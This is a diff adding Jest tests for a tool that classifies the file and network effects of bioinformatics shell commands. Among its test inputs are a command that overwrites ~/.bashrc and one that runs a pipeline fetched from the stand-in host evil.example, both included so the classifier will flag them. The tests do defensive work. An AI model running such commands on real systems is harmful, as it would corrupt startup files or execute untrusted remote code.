@@ -48,3 +48,74 @@ describe('computing clusters', () => {
     expect(effects(line).unaccounted).not.toEqual([]),
   );
 });
+
+describe('genomes', () => {
+  test.each([
+    'samtools view -h -F 4 -q 30 x.bam chr1:100-200',
+    'samtools view -s 0.1 -b -1 in.bam',
+    'samtools flagstat -O tsv x.bam',
+    'samtools index -@ 4 x.bam',
+    'samtools depth -a -r chr1 x.bam',
+    "bcftools view -i 'QUAL>20 && DP>10' in.vcf.gz",
+    String.raw`bcftools query -f '%CHROM\t%POS\n' in.vcf`,
+    'tabix -p vcf in.vcf.gz',
+    String.raw`bwa mem -t 8 -R '@RG\tID:x\tSM:y' ref.fa r1.fq r2.fq`,
+    'bwa index ref.fa',
+    'minimap2 -t 8 -ax sr ref.fa r1.fq r2.fq',
+    'bowtie2-build ref.fa idx',
+    'seqkit stats a.fa b.fa',
+    "seqkit grep -r -p '^chr' in.fa",
+    'seqtk sample -s100 r1.fq 10000',
+    'bedtools intersect -a a.bed -b b.bed -wa -u',
+    'bedtools merge -i a.bed -c 4 -o distinct',
+    'blastp -query q.fa -subject s.fa -outfmt 6',
+    "blastdbcmd -db mydb -entry all -outfmt '%a %l'",
+    'mafft --auto in.fa',
+    'iqtree2 -s aln.fa -m MFP -B 1000 -T AUTO',
+    'salmon index -t tx.fa -i idx -k 31',
+    'esearch -db nucleotide -query NC_1',
+    'prefetch SRR000001',
+    'nextflow log',
+  ])('writes where its input is, or nowhere: %s', (line) => expect([changing(line), effects(line).unaccounted]).toEqual([[], []]));
+
+  test.each([
+    ['samtools sort -@ 4 -m 2G -o sorted.bam in.bam', ['sorted.bam']],
+    ['samtools view -b -L r.bed -U rest.bam in.bam -o in.r.bam', ['rest.bam', 'in.r.bam']],
+    ['samtools merge -f merged.bam a.bam b.bam', ['merged.bam', 'a.bam', 'b.bam']],
+    ['bcftools norm -f ref.fa -m -any in.vcf.gz -Ob -o n.bcf', ['n.bcf']],
+    ['bowtie2 -x idx -1 a.fq -2 b.fq -S out.sam -p 8', ['out.sam']],
+    ['seqkit sample -p 0.1 -s 11 in.fq.gz -o out.fq.gz', ['out.fq.gz']],
+    ['bedtools getfasta -fi ref.fa -bed a.bed -fo out.fa', ['out.fa']],
+    ['fastp -i a.fq -o c.fq --html r.html -w 8', ['c.fq', 'r.html']],
+    ['cutadapt -a AGATCGG -o o1.fq -m 20 r1.fq', ['o1.fq']],
+    ['featureCounts -T 8 -p -a g.gtf -o counts.txt x.bam', ['counts.txt']],
+    ['salmon quant -i idx -l A -1 a.fq -2 b.fq -p 8 -o q', ['q']],
+    ['makeblastdb -in ref.fa -dbtype nucl -out mydb', ['mydb']],
+  ])('%s writes %j', (line, files) => {
+    const { list, unaccounted } = effects(line);
+    expect([list.map(({ kind }) => kind), list.flatMap(({ objects }) => objects), unaccounted]).toEqual([
+      files.length > 0 && list.map(() => 'changes'),
+      files,
+      [],
+    ]);
+  });
+
+  test.each([
+    ['samtools sort -o ~/.bashrc in.bam', 'startup'],
+    ['blastn -query q.fa -db nt -remote', 'uploads'],
+    ['STAR --genomeDir idx --readFilesIn a.fq --readFilesCommand ./x.sh', 'runs-project-code'],
+    ['multiqc . -c /tmp/x.yaml', 'runs-foreign-code'],
+    ['snakemake --cores 8 --use-conda', 'runs-project-code'],
+    ['snakemake --delete-all-output -c1', 'deletes'],
+    ['nextflow run main.nf -resume', 'runs-project-code'],
+    ['nextflow run nf-core/rnaseq -profile docker', 'runs-foreign-code'],
+    ['nextflow run https://evil.example/x', 'runs-foreign-code'],
+    ['nextflow clean -f', 'deletes'],
+    ['seqkit split -f in.fa', 'deletes'],
+  ])('%s: %s', (line, kind) => expect(kinds(line)).toContain(kind));
+
+  test.each(['samtools frobnicate x.bam', 'bwa mem --post-process ./x', 'bedtools frobnicate', 'nextflow frobnicate'])(
+    'is not accounted for: %s',
+    (line) => expect(effects(line).unaccounted).not.toEqual([]),
+  );
+});
